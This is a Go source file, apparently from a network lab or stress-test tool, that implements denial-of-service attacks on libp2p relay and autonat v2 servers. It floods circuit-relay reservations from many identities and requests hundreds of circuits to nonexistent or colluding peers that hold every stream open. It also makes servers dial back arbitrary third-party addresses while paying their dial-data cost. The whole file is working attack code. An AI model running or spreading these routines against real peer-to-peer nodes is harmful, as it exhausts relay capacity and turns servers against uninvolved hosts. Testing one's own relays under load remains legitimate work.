package netlab

import (
	"context"
	"fmt"
	"net/netip"
	"strings"
	"time"

	corehost "github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	natpb "github.com/libp2p/go-libp2p/p2p/protocol/autonatv2/pb"
	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/client"
	relaypb "github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/pb"
	relayproto "github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/proto"
	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/util"
	ma "github.com/multiformats/go-multiaddr"
)

const (
	// reservers is how many identities at each address ask for a reservation.
	reservers = 120
	// nowheres is how many circuits are asked for to somebody without a reservation,
	// and how many to one who has one.
	nowheres = 300
	// pairs is how many pairs at one address call each other, and pairCircuits how
	// often each does.
	pairs, pairCircuits = 48, 16
	// dialBackers is how many identities ask to be called back.
	dialBackers = 40

	maxRelayMessage = 4096
	maxNATMessage   = 8192
	hopProtocol     = relayproto.ProtoIDv2Hop
	stopProtocol    = relayproto.ProtoIDv2Stop
	dialRequest     = "/libp2p/autonat/2/dial-request"
)

// reserveMuch asks a seed for reservations: SEED ADDRESS...
func reserveMuch(ctx context.Context, args []string) (outcome, error) {
	seed, from, err := target(args)
	if err != nil {
		return outcome{}, err
	}
	return repeat(reservers*len(from), func(i int) error {
		_, err := reserve(ctx, from[i%len(from)], seed)
		return err
	}), nil
}

// reserve makes a stranger who holds a reservation at a seed.
func reserve(ctx context.Context, from netip.Addr, seed peer.AddrInfo) (corehost.Host, error) {
	h, err := intrude(ctx, from, seed)
	if err != nil {
		return nil, err
	}
	ctx, cancel := context.WithTimeout(ctx, attackWithin)
	defer cancel()
	_, err = client.Reserve(ctx, h, peer.AddrInfo{ID: seed.ID})
	return h, err
}

// circuitsToNowhere asks a seed for circuits to nobody, and then for too many to one
// who takes them all: SEED ADDRESS. What is granted are those to somebody.
func circuitsToNowhere(ctx context.Context, args []string) (outcome, error) {
	seed, from, err := target(args)
	if err != nil {
		return outcome{}, err
	}
	caller, err := intrude(ctx, from[0], seed)
	if err != nil {
		return outcome{}, err
	}
	nobody := repeat(nowheres, func(int) error {
		_, p, err := newIdentity()
		if err != nil {
			return err
		}
		return circuit(ctx, caller, seed.ID, p)
	})
	called, err := accomplice(ctx, from[0], seed)
	if err != nil {
		return outcome{}, err
	}
	somebody := repeat(nowheres, func(int) error { return circuit(ctx, caller, seed.ID, called.ID()) })
	somebody.text = fmt.Sprintf("%d of %d to nobody: %s; to somebody: %s", nobody.granted, nowheres, nobody.text, somebody.text)
	return somebody, nil
}

// circuitsOfMany lets many pairs at one address take all the circuits they get:
// SEED ADDRESS
func circuitsOfMany(ctx context.Context, args []string) (outcome, error) {
	seed, from, err := target(args)
	if err != nil {
		return outcome{}, err
	}
	type pair struct {
		caller corehost.Host
		called peer.ID
	}
	var all [pairs]pair
	made := repeat(pairs, func(i int) error {
		called, err := accomplice(ctx, from[0], seed)
		if err != nil {
			return err
		}
		caller, err := intrude(ctx, from[0], seed)
		all[i] = pair{caller, called.ID()}
		return err
	})
	got := repeat(pairs*pairCircuits, func(i int) error {
		p := all[i%pairs]
		if p.caller == nil {
			return fmt.Errorf("no such pair: %s", made.text)
		}
		return circuit(ctx, p.caller, seed.ID, p.called)
	})
	got.text = fmt.Sprintf("%d pairs; %s", made.granted, got.text)
	return got, nil
}

// accomplice makes a stranger who holds a reservation and takes every circuit.
func accomplice(ctx context.Context, from netip.Addr, seed peer.AddrInfo) (corehost.Host, error) {
	h, err := reserve(ctx, from, seed)
	if err != nil {
		return nil, err
	}
	h.SetStreamHandler(stopProtocol, func(s network.Stream) {
		var msg relaypb.StopMessage
		if util.NewDelimitedReader(s, maxRelayMessage).ReadMsg(&msg) != nil {
			return
		}
		ok := relaypb.StopMessage{Type: relaypb.StopMessage_STATUS.Enum(), Status: relaypb.Status_OK.Enum()}
		_ = util.NewDelimitedWriter(s).WriteMsg(&ok) // and holds the stream
	})
	return h, nil
}

// circuit asks a seed for a circuit and holds it.
func circuit(ctx context.Context, h corehost.Host, seed, to peer.ID) error {
	ctx, cancel := context.WithTimeout(ctx, attackWithin)
	defer cancel()
	s, err := h.NewStream(ctx, seed, hopProtocol)
	if err != nil {
		return err
	}
	if err := s.SetDeadline(time.Now().Add(attackWithin)); err != nil {
		return err
	}
	msg := relaypb.HopMessage{Type: relaypb.HopMessage_CONNECT.Enum(), Peer: util.PeerInfoToPeerV2(peer.AddrInfo{ID: to})}
	if err := util.NewDelimitedWriter(s).WriteMsg(&msg); err != nil {
		return err
	}
	msg.Reset()
	if err := util.NewDelimitedReader(s, maxRelayMessage).ReadMsg(&msg); err != nil {
		return err
	}
	if msg.GetStatus() != relaypb.Status_OK {
		return fmt.Errorf("refused: %s", msg.GetStatus())
	}
	return nil
}

// askForDialBacks asks a seed to call others back, and pays what it asks for that:
// SEED ADDRESS TARGET..., a target being a multiaddr.
func askForDialBacks(ctx context.Context, args []string) (outcome, error) {
	seed, from, err := target(args[:2])
	if err != nil {
		return outcome{}, err
	}
	var targets []ma.Multiaddr
	for _, s := range args[2:] {
		a, err := ma.NewMultiaddr(s)
		if err != nil {
			return outcome{}, err
		}
		targets = append(targets, a)
	}
	return repeat(dialBackers*len(targets), func(i int) error {
		h, err := intrude(ctx, from[0], seed)
		if err != nil {
			return err
		}
		return askForDialBack(ctx, h, seed.ID, targets[i%len(targets)])
	}), nil
}

// askForDialBack asks once. It is no error if the seed dialled, with whatever success.
func askForDialBack(ctx context.Context, h corehost.Host, seed peer.ID, addr ma.Multiaddr) error {
	ctx, cancel := context.WithTimeout(ctx, 2*attackWithin)
	defer cancel()
	s, err := h.NewStream(ctx, seed, dialRequest)
	if err != nil {
		return err
	}
	if err := s.SetDeadline(time.Now().Add(2 * attackWithin)); err != nil {
		return err
	}
	w, r := util.NewDelimitedWriter(s), util.NewDelimitedReader(s, maxNATMessage)
	ask := natpb.Message{Msg: &natpb.Message_DialRequest{DialRequest: &natpb.DialRequest{Addrs: [][]byte{addr.Bytes()}, Nonce: 7}}}
	if err := w.WriteMsg(&ask); err != nil {
		return err
	}
	var answer natpb.Message
	if err := r.ReadMsg(&answer); err != nil {
		return err
	}
	if price := answer.GetDialDataRequest(); price != nil {
		data := &natpb.Message_DialDataResponse{DialDataResponse: &natpb.DialDataResponse{Data: []byte(strings.Repeat("x", 4000))}}
		for paid := uint64(0); paid < price.GetNumBytes(); paid += 4000 {
			if err := w.WriteMsg(&natpb.Message{Msg: data}); err != nil {
				return err
			}
		}
		answer.Reset()
		if err := r.ReadMsg(&answer); err != nil {
			return err
		}
	}
	if status := answer.GetDialResponse().GetStatus(); status != natpb.DialResponse_OK {
		return fmt.Errorf("refused: %s", status)
	}
	return nil
}
